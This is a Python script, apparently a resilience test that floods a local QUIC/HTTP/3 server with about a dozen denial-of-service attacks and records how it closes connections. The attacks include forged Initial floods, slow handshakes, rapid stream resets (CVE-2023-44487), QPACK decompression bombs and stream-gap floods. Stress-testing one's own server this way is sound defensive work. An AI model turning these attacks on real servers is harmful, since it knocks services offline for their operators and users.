"""Attacks a server for some seconds, and prints how much was sent and how the server closed connections.

Usage: attacks.py KIND PORT SECONDS
"""

import collections
import json
import os
import socket
import sys
import time

from aioquic.quic.packet import QuicPacketType
from aioquic.tls import Epoch
from peer import Peer, frame, integer

kind, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
to = ("127.0.0.1", port)
end = time.time() + seconds
codes = collections.Counter()
sent = 0


def connections(step):
    """Runs a step on connections until the time is over; a closed connection is replaced."""
    while time.time() < end:
        peer = Peer(port)
        try:
            peer.established()
            state = {}
            while time.time() < end and peer.closed is None and step(peer, state) is not False:
                peer.run(lambda: peer.closed is not None, 0.001)
            if peer.closed is None:
                peer.run(lambda: peer.closed is not None, 0.2)
        except (ConnectionError, TimeoutError) as error:
            codes[type(error).__name__] += 1
        codes["open" if peer.closed is None else hex(peer.closed.error_code)] += 1
        peer.close()


def send(peer, payload):
    global sent
    sent += 1
    peer.packet(payload)


def forged_initials():
    """Initial packets with random contents from random ports."""
    global sent
    head = b"\xc3\x00\x00\x00\x01"
    sockets = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(50)]
    while time.time() < end:
        for each in sockets:
            ids = b"\x08" + os.urandom(8) + b"\x08" + os.urandom(8)
            body = os.urandom(1172)
            each.sendto(head + ids + b"\x00" + integer(len(body), 2) + body, to)
            sent += 1
        time.sleep(0.002)


def half_handshakes():
    """Handshakes that end after the first datagram."""
    global sent
    while time.time() < end:
        peer = Peer(port)
        peer.start()
        peer.socket.close()
        sent += 1


def slow_handshakes():
    """Handshakes whose ClientHello never arrives completely."""
    global sent
    while time.time() < end:
        peer = Peer(port)
        peer.quic.connect(to, now=time.time())
        peer.packet(frame(6, 0, 100, b"\x01\x00\x02\x00" + bytes(96)), QuicPacketType.INITIAL, Epoch.INITIAL, pad=1000)
        peer.socket.close()
        sent += 1


def paths():
    """Each packet from another port, with challenges."""

    def step(peer, _):
        peer.rebind()
        send(peer, b"\x1a" + os.urandom(8) + b"\x01")

    connections(step)


def open_streams():
    def step(peer, state):
        first = state.get("next", 0)
        state["next"] = first + 40
        send(peer, b"".join(frame(0xA, 4 * i, 1, b"\x01") for i in range(first, min(first + 40, 250))))
        return first < 210

    connections(step)


def resets():
    """Requests that are reset at once (CVE-2023-44487)."""

    def step(peer, _):
        global sent
        for _ in range(20):
            peer.quic.reset_stream(peer.request(path="/facts"), 0x10C)
            sent += 1
        peer.flush()

    connections(step)


def unsent_acks():
    connections(lambda peer, _: send(peer, frame(2, 1_000_000, 0, 0, 0)))


def crypto_gaps():
    def step(peer, state):
        first = state.get("next", 0)
        state["next"] = first + 60
        send(peer, b"".join(frame(6, 2 * i + 1, 1, b"x") for i in range(first, first + 60)))

    connections(step)


def stream_gaps():
    """Single bytes with gaps on many streams."""

    def step(peer, state):
        at = state.get("at", 0)
        state["at"] = at + 1
        stream, offset = 4 * (at % 200), 300 * (at // 200)
        send(peer, b"".join(frame(0xE, stream, offset + 2 * i + 1, 1, b"x") for i in range(150)))
        return at < 1200

    connections(step)


def huge_offsets():
    connections(lambda peer, _: send(peer, frame(0xC, 0, 2**61, b"x")))


def qpack_bombs():
    """A table entry of 4,000 bytes, referenced 30,000 times in each request."""

    def step(peer, state):
        if "begun" not in state:
            state["begun"] = True
            insert = b"\x3f\xe1\x1f" + b"\x41a" + b"\x7f\xa1\x1e" + b"x" * 4000
            peer.quic.send_stream_data(2, b"\x00" + frame(4, 0))
            peer.quic.send_stream_data(6, b"\x02" + insert)
            peer.flush()
            state["stream"] = 0
        section = b"\x02\x00" + b"\x80" * 30_000
        peer.quic.send_stream_data(state["stream"], frame(1, len(section), section), end_stream=True)
        peer.flush()
        state["stream"] += 4
        global sent
        sent += 1
        peer.run(lambda: peer.closed is not None, 0.02)

    connections(step)


def blocked_streams():
    """Requests whose table entries never arrive, with bodies."""

    def step(peer, state):
        if "stream" not in state:
            peer.quic.send_stream_data(2, b"\x00" + frame(4, 0))
            state["stream"] = 0
        section = b"\x02\x00\x80"
        body = frame(1, len(section), section) + frame(0, 20_000, b"x" * 20_000)
        peer.quic.send_stream_data(state["stream"], body)
        peer.flush()
        state["stream"] += 4
        global sent
        sent += 1

    connections(step)


def empty_frames():
    """Empty DATA and unknown frames."""

    def step(peer, state):
        if "begun" not in state:
            state["begun"] = True
            peer.quic.send_stream_data(2, b"\x00" + frame(4, 0))
        peer.quic.send_stream_data(2, b"\x21\x00" * 500)
        peer.flush()
        global sent
        sent += 1

    connections(step)


globals()[kind]()
print(json.dumps({"sent": sent, "codes": codes}))
